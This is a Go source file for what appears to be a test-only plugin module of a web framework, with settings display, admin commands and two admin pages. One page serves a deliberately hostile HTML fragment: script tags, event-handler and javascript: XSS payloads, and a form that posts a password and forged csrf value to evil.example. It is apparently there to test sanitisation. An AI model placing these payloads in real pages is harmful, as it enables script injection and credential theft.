// Command extras is a test-only module for the owner's controls over a
// module: its page shows its settings live and a counter kept in the
// instance's memory (which survives a disable and enable: no restart);
// it subscribes anyone to extras.*; it has admin commands with typed
// arguments and a table; its admin pages are a small board (a list and a
// form that posts back) and a hostile fragment (script, event handlers,
// javascript: links, a form posting elsewhere, a password field, a csrf
// field of its own).
package main

import (
	"context"
	"fmt"
	"html"
	"io"
	"net/http"
	"strings"
	"sync/atomic"

	"github.com/websonic/websonic/sdk"
)

var (
	hits  atomic.Int64 // in this instance's memory
	items []string     // the board, in this instance's memory
)

type config struct {
	Greeting string  `json:"greeting"`
	Limit    int     `json:"limit"`
	Ratio    float64 `json:"ratio"`
	Shout    bool    `json:"shout"`
}

func init() {
	sdk.Handle(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var c config
		if err := sdk.Config(&c); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		g := c.Greeting
		if c.Shout {
			g = strings.ToUpper(g)
		}
		fmt.Fprintf(w, "greeting=%s limit=%d ratio=%g hits=%d", g, c.Limit, c.Ratio, hits.Add(1))
	}))
	sdk.OnSubscribe(func(ctx context.Context, u *sdk.User, topic string) error { return nil })

	sdk.Command("greet", func(ctx context.Context, args sdk.Args) (sdk.Result, error) {
		var a struct {
			Name  string `json:"name"`
			Times int    `json:"times"`
			Loud  bool   `json:"loud"`
		}
		if err := args.Decode(&a); err != nil {
			return sdk.Result{}, err
		}
		s := "hello " + a.Name
		if a.Loud {
			s = strings.ToUpper(s)
		}
		return sdk.Text(fmt.Sprintf("%s x%d by %s", s, a.Times, args.Actor())), nil
	})
	sdk.Command("table", func(ctx context.Context, args sdk.Args) (sdk.Result, error) {
		return sdk.Table([]string{"item", "count"}, [][]any{{"apples", 3}, {"<b>pears</b>", 5}}), nil
	})

	sdk.AdminPage("board", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			if r.FormValue("csrf") != "" {
				http.Error(w, "the shell's csrf field reached the module", http.StatusBadRequest)
				return
			}
			if it := r.FormValue("item"); it != "" {
				items = append(items, it)
			}
			w.Header().Set("Location", "?added=1")
			w.WriteHeader(http.StatusSeeOther)
			return
		}
		fmt.Fprintf(w, "<h2>Board of %s</h2>", html.EscapeString(sdk.UserFrom(r).Username))
		if r.URL.Query().Get("added") == "1" {
			io.WriteString(w, `<p class="ok">Added.</p>`)
		}
		io.WriteString(w, `<ul id="items">`)
		for _, it := range items {
			fmt.Fprintf(w, "<li>%s</li>", html.EscapeString(it))
		}
		io.WriteString(w, `</ul><form method="post"><label for="item">Item</label><input id="item" name="item"><button>Add</button></form>`)
	}))
	sdk.AdminPage("hostile", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, hostileFragment)
	}))
}

// hostileFragment tries every way out of its box.
const hostileFragment = `<h2>Hostile</h2>
<script>document.title="pwned-script"</script>
<img src="x" onerror="document.title='pwned-onerror'">
<p onclick="alert(1)" style="position:fixed;top:0" class="top brand">styled</p>
<a id="js" href="javascript:alert('pwned-js')">js link</a>
<a id="ext" href="https://evil.example/phish">external</a>
<a id="proto" href="//evil.example/phish">protocol-relative</a>
<a id="self" href="?tab=2">self</a>
<form id="elsewhere" action="https://evil.example/steal" method="post"><input name="csrf" value="forged"><input type="password" name="pw"><button formaction="https://evil.example/x">Go</button></form>
<iframe src="https://evil.example"></iframe>
<style>body{display:none}</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<svg><script>alert(1)</script></svg>
<input form="logout" name="x">
<div id="main">clash</div>`

func main() {}
